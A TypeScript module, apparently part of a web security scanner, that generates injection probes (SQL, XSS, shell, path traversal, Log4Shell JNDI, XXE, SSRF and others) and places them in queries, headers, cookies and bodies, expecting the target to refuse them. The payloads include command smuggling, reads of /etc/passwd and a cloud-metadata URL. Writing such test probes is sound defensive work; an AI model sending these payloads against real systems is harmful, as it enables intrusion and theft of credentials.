import type { Probe, ProbeRequest, ProbeTarget } from '../../core/probe.ts'
import type { InjectionClass } from '../../injection/finding.ts'
import type { InjectionOptions } from './options.ts'

/** One attack of each class, as a value. */
const attacks: Readonly<Partial<Record<InjectionClass, string>>> = {
  sql: "probe' UNION SELECT name, secret FROM users --",
  xss: '<img src=x onerror=alert(1)>',
  shell: '127.0.0.1; cat /etc/passwd',
  path: '../../../../etc/passwd',
  template: '{{7*7}}',
  nosql: "' || this.password == 'x",
  ldap: '*)(uid=*))(|(uid=*',
  xpath: "x' or position()=1 or 'a'='b",
  header: 'x\r\nSet-Cookie: probe=1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is sent
  log: '${jndi:ldap://probe.invalid/a}',
  mail: 'a@example.com\r\nBcc: b@example.com',
  object: 'O:8:"stdClass":1:{s:1:"a";i:1;}',
  xml: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ssrf: 'http://169.254.169.254/latest/meta-data/',
}

const honest = "O'Brien & Sons: select 1 or 2 from the table -- it's 5 < 6, isn't it?"
const form = [['content-type', 'application/x-www-form-urlencoded']] as const
const json = [['content-type', 'application/json']] as const
const multipart = [['content-type', 'multipart/form-data; boundary=probe']] as const

/** One probe for each class, and for each place where a value can stand. */
export function createProbes(options: InjectionOptions, target: ProbeTarget): readonly Probe[] {
  const { classes, threshold } = options
  const kinds = classes.filter((kind) => attacks[kind] !== undefined)
  const toQuery = (value: string) => `probe=${encodeURIComponent(value)}`
  const probes = kinds.map((kind) => probe(target, `${kind} in the query`, { query: toQuery(attacks[kind] as string) }))
  const strongest = kinds.find((kind) => ['sql', 'xss', 'ldap', 'path', 'shell'].includes(kind))
  const passing = probe(target, 'text that only looks like it', { query: toQuery(honest) }, 'honest')
  // What a route's contract does not list is refused whatever it looks like; the contract's own honest probe passes here.
  if (target.others !== undefined)
    return threshold > 6 || strongest === undefined
      ? probes
      : [...probes, ...createPlaceProbes(options, target, attacks[strongest] as string)]
  if (threshold > 6 || strongest === undefined) return threshold > 6 ? [passing] : [...probes, passing]
  return [...probes, ...createPlaceProbes(options, target, attacks[strongest] as string), passing]
}

function createPlaceProbes(options: InjectionOptions, target: ProbeTarget, attack: string): Probe[] {
  const { method } = target
  const encoded = encodeURIComponent(attack)
  const excused = (part: string, at: string) =>
    options.exclude.some((one) => one.in === part && (one.at === at || one.at === ''))
  const probes = [probe(target, 'in the query, encoded twice', { query: `probe=${encodeURIComponent(encoded)}` })]
  if (options.headers.includes('referer') && !excused('header', 'referer')) {
    probes.push(probe(target, 'in a header', { headers: [['referer', `https://example.com/?q=${encoded}`]] }))
  }
  if (options.cookies) probes.push(probe(target, 'in a cookie', { headers: [['cookie', `probe=${encoded}`]] }))
  if (method === 'GET' || method === 'HEAD' || excused('body', '')) return probes
  const part = (head: string, value: string) =>
    `--probe\r\nContent-Disposition: form-data; ${head}\r\n\r\n${value}\r\n--probe--\r\n`
  return [
    ...probes,
    probe(target, 'in JSON', { headers: json, body: JSON.stringify({ probe: [{ text: attack }] }) }),
    probe(target, 'as the name of a member', { headers: json, body: JSON.stringify({ [attack]: 1 }) }),
    probe(target, 'in a form', { headers: form, body: `probe=${encoded}` }),
    probe(target, 'in a multipart form', { headers: multipart, body: part('name="probe"', attack) }),
    probe(target, 'as the name of a file', {
      headers: multipart,
      body: part('name="probe"; filename="../../../../etc/passwd"', 'x'),
    }),
  ]
}

function probe(
  target: ProbeTarget,
  name: string,
  request: Partial<ProbeRequest>,
  kind: Probe['kind'] = 'attack',
): Probe {
  const { method, path, observe } = target
  return {
    name,
    kind,
    standard: 'v5.0.0-1.2.4',
    requests: [{ method, path, ...request }],
    expect: kind === 'honest' || observe ? { outcome: 'passed' } : { outcome: 'refused' },
  }
}
